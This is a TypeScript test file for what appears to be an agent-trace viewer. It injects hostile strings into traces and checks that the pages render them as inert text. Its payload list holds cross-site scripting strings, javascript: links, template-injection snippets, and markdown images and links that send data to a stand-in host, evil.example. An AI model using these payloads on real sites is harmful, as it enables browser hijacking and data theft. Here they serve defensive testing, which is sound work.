import { randomUUID } from 'node:crypto';
import t from 'tap';
import type { JsonObject } from '../../src/signal/attributes.js';
import { aSpan } from '../support/trace-batch.js';
import { startPages } from '../support/ui.js';

/** Content in a trace that tries to run, load or send something in the browser of a viewer. */
const PAYLOADS = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)><style>*{background:url(https://evil.example/css)}</style>',
  '<iframe src="https://evil.example/"></iframe><base href="https://evil.example/">',
  '![leak](https://evil.example/?q=secret)',
  '![x](javascript:alert(1)) [click](javascript:alert(1)) [data](data:text/html,<script>alert(1)</script>)',
  '[ref]: javascript:alert(1)\n\n[ref] <javascript:alert(1)> <https://evil.example/auto>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<a href="https://evil.example" ping="https://evil.example/ping" style="position:fixed;inset:0">x</a>',
  '"><form action="https://evil.example/"><button formaction="javascript:alert(1)">Log in</button></form>',
  '<link rel=stylesheet href=https://evil.example/x.css><link rel=prefetch href=https://evil.example/p>',
  '{{constructor.constructor("alert(1)")()}} ${alert(1)} <%= alert(1) %>',
  '\u202Egnp.exe \u0000\u0007 \uFFFE a\u0301'.replaceAll('\u0000', ''),
  '__proto__',
  `${'>'.repeat(3000)} deep`,
  `${'['.repeat(3000)}x${']()'.repeat(3000)}`,
];

/** Pages load slowly, so several payloads share a span. */
const IN_ONE_SPAN = 4;

function messages(texts: readonly string[]): JsonObject {
  return { messages: texts.flatMap(conversation), ...Object.fromEntries(texts.map((text) => [text, text])) };
}

function conversation(text: string): JsonObject[] {
  return [
    { role: 'user', content: text },
    {
      role: text,
      content: [
        { type: 'text', text },
        { type: 'image_url', image_url: { url: 'https://evil.example/i.png' } },
      ],
    },
    {
      role: 'assistant',
      tool_calls: [{ id: text, function: { name: text, arguments: text } }],
      content: text,
    },
    { role: 'tool', tool_call_id: text, content: text },
  ];
}

void t.test('shows hostile traces as plain text', async (t) => {
  const { api, permit } = await startPages(t);
  const id = randomUUID();
  const spans = Array.from({ length: Math.ceil(PAYLOADS.length / IN_ONE_SPAN) }, (_, at) => {
    const texts = PAYLOADS.slice(at * IN_ONE_SPAN, (at + 1) * IN_ONE_SPAN);
    return aSpan(id, {
      name: texts[0]?.slice(0, 200) ?? '',
      model: texts[1]?.slice(0, 200) ?? '',
      status: 'failed',
      error_message: texts.join(' '),
      input_data: messages(texts),
      output_data: messages(texts),
      metadata: messages(texts),
    });
  });
  const header = {
    trace_id: id,
    agent: PAYLOADS[1] ?? '',
    status: 'failed',
    outcome: PAYLOADS[0] ?? '',
    error_message: PAYLOADS[3] ?? '',
    started_at: '2026-11-03T08:15:30.250Z',
    ended_at: '2026-11-03T08:15:31.5Z',
  };
  const answer = await api.call('POST', '/traces/batch', { json: { traces: [{ trace: header, spans }] } });
  t.same(answer.body, { accepted: 1, rejected: 0, errors: [] });

  const { page, complaints } = await permit('/agents');
  await page.getByRole('link', { name: PAYLOADS[1] ?? '' }).click();
  await page.getByRole('table', { name: 'Runs' }).getByRole('link').first().click();
  await page.getByRole('treegrid').waitFor();
  for (const span of spans) {
    for (const tab of ['JSON', 'Conversation', 'Span', 'Input and output']) {
      if (tab === 'JSON')
        await page.goto(`${new URL(page.url()).origin}/traces/${id}?span=${span['span_id'] as string}`);
      await page.getByRole('tab', { name: tab }).click();
      await page.getByRole('tab', { name: tab, selected: true }).waitFor();
    }
    const made = 'main :is(script, img, iframe, form, style, link, meta, base, object, embed)';
    t.equal(await page.locator(made).count(), 0);
    t.equal(await page.locator('main [style*="fixed"], main [onerror], main [onload]').count(), 0);
    for (const link of await page.locator('main a[href^="http"], main a[href*=":"]').all()) {
      t.match(await link.getAttribute('href'), /^(https?|mailto):/);
      t.match(await link.getAttribute('rel'), /noopener noreferrer/);
    }
  }
  t.equal(await page.evaluate('({}).polluted'), undefined);
  t.same(complaints, [], 'no foreign request, dialog or policy violation');
});
